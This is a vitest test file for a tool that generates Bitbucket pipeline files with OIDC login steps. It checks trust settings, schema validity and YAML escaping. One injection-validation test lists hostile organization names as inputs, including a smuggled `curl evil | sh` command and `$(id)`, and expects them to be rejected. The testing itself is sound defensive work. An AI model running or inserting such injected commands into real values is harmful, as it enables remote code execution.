// A repository without bitbucket-pipelines.yml gets a new file whose steps
// agree with the identity: the trusted branch (not every push) for branch
// trust, a `deployment:` for environment trust.
import { parse } from 'yaml';
import { describe, expect, it } from 'vitest';
import { checkPipelineStructure, CUSTOM_PIPELINE_NAME, LOGIN_LINE, planPipeline, trustReport } from '../../../src/core/pipeline';
import type { IdentityChoices } from '../../../src/core/types';
import { branchChoices, envChoices, expectError, expectOk, facts, repoChoices, schemaErrors } from './support';

type Step = Record<string, unknown>;

function stepsOf(content: string): { branches: Record<string, { step: Step }[]>; custom: Record<string, { step: Step }[]>; root: Record<string, unknown> } {
  const root = parse(content) as Record<string, unknown>;
  const pipelines = root.pipelines as Record<string, unknown>;
  return {
    root: pipelines,
    branches: pipelines.branches as Record<string, { step: Step }[]>,
    custom: pipelines.custom as Record<string, { step: Step }[]>,
  };
}

const kinds: [string, IdentityChoices][] = [
  ['branch', branchChoices],
  ['environment', envChoices],
  ['repository', repoChoices],
];

describe.each(kinds)('new file, %s trust', (kind, choices) => {
  const plan = expectOk(planPipeline(null, facts, choices));

  it('is valid against the Bitbucket schema and our structural checks', () => {
    expect(schemaErrors(parse(plan.content))).toEqual([]);
    expect(checkPipelineStructure(plan.content)).toEqual([]);
  });

  it('runs the check on the main branch and as the manual custom pipeline, never on every push', () => {
    const { root, branches, custom } = stepsOf(plan.content);
    expect(root.default).toBeUndefined();
    expect(Object.keys(branches)).toEqual(['main']);
    expect(Object.keys(custom)).toEqual([CUSTOM_PIPELINE_NAME]);
    for (const pipeline of [branches.main, custom[CUSTOM_PIPELINE_NAME]]) {
      const step = pipeline?.[0]?.step as Step;
      expect(step.oidc).toBe(true);
      expect(step.script).toContain(LOGIN_LINE);
      if (kind === 'environment') expect(step.deployment).toBe('production');
      else expect(step.deployment).toBeUndefined();
    }
  });

  it('reports what it created', () => {
    expect(plan.unchanged).toBe(false);
    expect(plan.changes.createdFile).toBe(true);
    expect(plan.changes.addedCustomPipeline).toBe(CUSTOM_PIPELINE_NAME);
    expect(plan.changes.oidcAddedTo.map((s) => s.id)).toEqual(['branches.main/0', 'custom.chainguard-oidc/0']);
  });

  it('has OIDC steps whose tokens the identity accepts', () => {
    const findings = trustReport(plan.content, facts, choices);
    expect(findings).toHaveLength(2);
    const onMain = findings.find((f) => f.step.trigger.kind === 'branch');
    expect(onMain?.verdict).toBe('accepted');
    const custom = findings.find((f) => f.step.trigger.kind === 'custom');
    // A custom pipeline can be started on any branch: with branch trust only runs on main are accepted.
    expect(custom?.verdict).toBe(kind === 'branch' ? 'partly' : 'accepted');
    expect(findings.every((f) => f.accepted)).toBe(true);
  });

  it('ends with exactly one newline and uses LF', () => {
    expect(plan.content.endsWith('\n')).toBe(true);
    expect(plan.content.endsWith('\n\n')).toBe(false);
    expect(plan.content).not.toContain('\r');
  });
});

describe('new file, other choices', () => {
  it('runs on the trusted branch when it is not the main branch', () => {
    const plan = expectOk(planPipeline(null, facts, { organization: 'example.com', trust: { kind: 'branch', branch: 'release/v1' } }));
    expect(Object.keys(stepsOf(plan.content).branches)).toEqual(['release/v1']);
    expect(trustReport(plan.content, facts, { organization: 'example.com', trust: { kind: 'branch', branch: 'release/v1' } })[0]?.verdict).toBe('accepted');
    // The file lands on main first: the warning says to bring it to release/v1 and to run the check there.
    expect(plan.warnings.join(' ')).toMatch(
      /trusts branch release\/v1, but this change goes to main\. After merging, bring it to release\/v1.*custom pipeline "chainguard-oidc" on release\/v1.*a run on main gets a token the identity refuses/,
    );
  });

  it('says nothing about other branches when the main branch is trusted', () => {
    for (const choices of [branchChoices, envChoices, repoChoices]) {
      expect(expectOk(planPipeline(null, facts, choices)).warnings.join(' ')).not.toMatch(/bring it to/);
    }
  });

  it('pulls the image in a step with the docker service', () => {
    const plan = expectOk(planPipeline(null, facts, { organization: 'example.com', image: { name: 'python', tag: 'latest' } }));
    const step = stepsOf(plan.content).branches.main?.[0]?.step as Step;
    expect(step.services).toEqual(['docker']);
    expect(step.script).toContain("docker pull 'cgr.dev/example.com/python:latest'");
    expect(schemaErrors(parse(plan.content))).toEqual([]);
    expect(checkPipelineStructure(plan.content)).toEqual([]);
  });

  it('rejects hostile organization names through validation, before writing anything', () => {
    for (const organization of ["x'; curl evil | sh; '", 'a\nb', 'Example.COM', '$(id)', '']) {
      const message = expectError(planPipeline(null, facts, { organization }), 'invalid-choices');
      expect(message).toMatch(/organization/);
    }
  });

  it('writes odd branch and environment names as exact YAML values', () => {
    const branch = `a#b"c(d)'e`; // braces are refused (glob alternatives)
    const plan = expectOk(planPipeline(null, facts, { organization: 'example.com', trust: { kind: 'branch', branch } }));
    expect(Object.keys(stepsOf(plan.content).branches)).toEqual([branch]);
    const envName = `prod #1: 'x' "y" *z &w`;
    const oddFacts = { ...facts, environments: [{ uuid: facts.environments[0]?.uuid as string, name: envName }] };
    const envPlan = expectOk(planPipeline(null, oddFacts, envChoices));
    expect(stepsOf(envPlan.content).custom[CUSTOM_PIPELINE_NAME]?.[0]?.step.deployment).toBe(envName);
    expect(schemaErrors(parse(envPlan.content))).toEqual([]);
  });

  it('rejects an unknown deployment environment', () => {
    const message = expectError(
      planPipeline(null, facts, { organization: 'example.com', trust: { kind: 'environment', environmentUuid: '{00000000-0000-4000-8000-000000000001}' } }),
      'invalid-choices',
    );
    expect(message).toMatch(/production/);
  });
});
